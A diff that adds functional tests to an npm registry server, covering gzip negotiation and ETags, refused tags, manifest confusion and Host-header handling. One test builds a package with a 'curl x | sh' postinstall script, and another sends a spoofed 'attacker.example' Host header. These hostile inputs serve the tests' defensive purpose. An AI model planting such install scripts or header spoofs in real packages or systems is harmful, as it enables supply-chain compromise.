@@ -391,3 +391,66 @@ def test_gzip_packument_round_trips(repo: NpmRepo) -> None:
     assert r.headers["content-encoding"] == "gzip"
     assert int(r.headers["content-length"]) < len(r.content)
     assert len(json.loads(gzip.decompress(gzip.compress(r.content)))["versions"]) == 30
+
+
+def test_gzip_follows_q_values_and_has_its_own_etag(repo: NpmRepo) -> None:
+    for i in range(5):
+        assert publish(repo, "zipped", f"1.0.{i}", description="y" * 300).status_code == 201
+    plain = get(repo, "zipped", Accept=ABBREVIATED, **{"Accept-Encoding": "gzip;q=0, identity"})
+    assert "content-encoding" not in plain.headers
+    zipped = httpx.get(
+        repo.endpoint + "zipped", headers={**repo.headers, "Accept": ABBREVIATED, "Accept-Encoding": "br, gzip"}
+    )
+    assert zipped.headers["content-encoding"] == "gzip"
+    assert zipped.headers["etag"] != plain.headers["etag"] and zipped.json() == plain.json()
+    again = get(
+        repo, "zipped", Accept=ABBREVIATED, **{"Accept-Encoding": "gzip", "If-None-Match": zipped.headers["etag"]}
+    )
+    assert again.status_code == 304
+    # the identity ETag does not validate the gzip representation
+    stale = get(
+        repo, "zipped", Accept=ABBREVIATED, **{"Accept-Encoding": "gzip", "If-None-Match": plain.headers["etag"]}
+    )
+    assert stale.status_code == 200
+
+
+def test_a_publish_with_a_refused_tag_stores_nothing(repo: NpmRepo) -> None:
+    r = publish(repo, "tagged", "1.0.0", tag="1.2.3")
+    assert r.status_code == 400 and "must not be a version" in r.json()["error"]
+    assert get(repo, "tagged").status_code == 404
+    assert publish(repo, "tagged", "1.0.0", tag="stable").status_code == 201
+    nested = httpx.put(
+        repo.endpoint + "-/package/tagged/dist-tags/x", content=b"[" * 50_000, headers=repo.headers, timeout=30
+    )
+    assert nested.status_code == 400
+
+
+def test_the_packument_shows_what_the_tarball_installs(repo: NpmRepo) -> None:
+    """Manifest confusion: dependencies and install scripts come from the tarball's own package.json."""
+    data = tarball("confused", "1.0.0", dependencies={"evil": "1.0.0"}, scripts={"postinstall": "curl x | sh"})
+    escaped, body = publish_body("confused", "1.0.0", data=data, dependencies={})
+    assert put(repo, escaped, body).status_code == 201
+    entry = get(repo, "confused", Accept=ABBREVIATED).json()["versions"]["1.0.0"]
+    assert entry["dependencies"] == {"evil": "1.0.0"} and entry["hasInstallScript"] is True
+
+
+def test_tarball_urls_follow_the_public_url(tmp_path: Path) -> None:
+    from tests.functional.conftest import ACCOUNT
+    from tests.functional.server import running_server
+
+    with running_server(tmp_path / "c", "--account-id", ACCOUNT, "--public-url", "https://coffer.example.test") as srv:
+        ca = make_client(srv)
+        npm_repo = new_npm_repo(ca, srv, _domain(ca), "app")
+        assert npm_repo.endpoint.startswith("https://coffer.example.test/npm/d/")
+        local = NpmRepo(
+            npm_repo.domain,
+            "app",
+            npm_repo.endpoint.replace("https://coffer.example.test", srv.url),
+            npm_repo.token,
+            srv,
+        )
+        assert publish(local, "pub", "1.0.0").status_code == 201
+        for host in (None, "attacker.example:1"):
+            headers = {"Accept": "application/json"} | ({"Host": host} if host else {})
+            doc = get(local, "pub", **headers).json()
+            assert doc["versions"]["1.0.0"]["dist"]["tarball"] == npm_repo.endpoint + "pub/-/pub-1.0.0.tgz"
